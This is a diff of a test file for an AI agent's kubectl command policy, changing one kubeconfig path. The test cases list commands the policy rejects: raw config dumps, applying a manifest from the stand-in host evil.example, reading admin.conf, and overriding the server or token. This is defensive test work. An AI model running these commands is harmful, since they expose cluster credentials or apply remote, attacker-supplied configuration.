@@ -41,7 +41,7 @@ describe("the agent's own policy", () => {
     ['kubectl config view --raw', /never|--raw/],
     ['kubectl apply -f http://evil.example/x.yaml', /-f/],
     ['kubectl get -f /etc/kubernetes/admin.conf', /-f/],
-    ['kubectl get pods --kubeconfig=/root/.kube/config', /--kubeconfig/],
+    ['kubectl get pods --kubeconfig=kube/config', /--kubeconfig/],
     ['kubectl get pods --server https://10.0.0.1', /--server/],
     ['kubectl get pods -shttps://10.0.0.1', /-s/],
     ['kubectl get pods --token abc', /--token/],
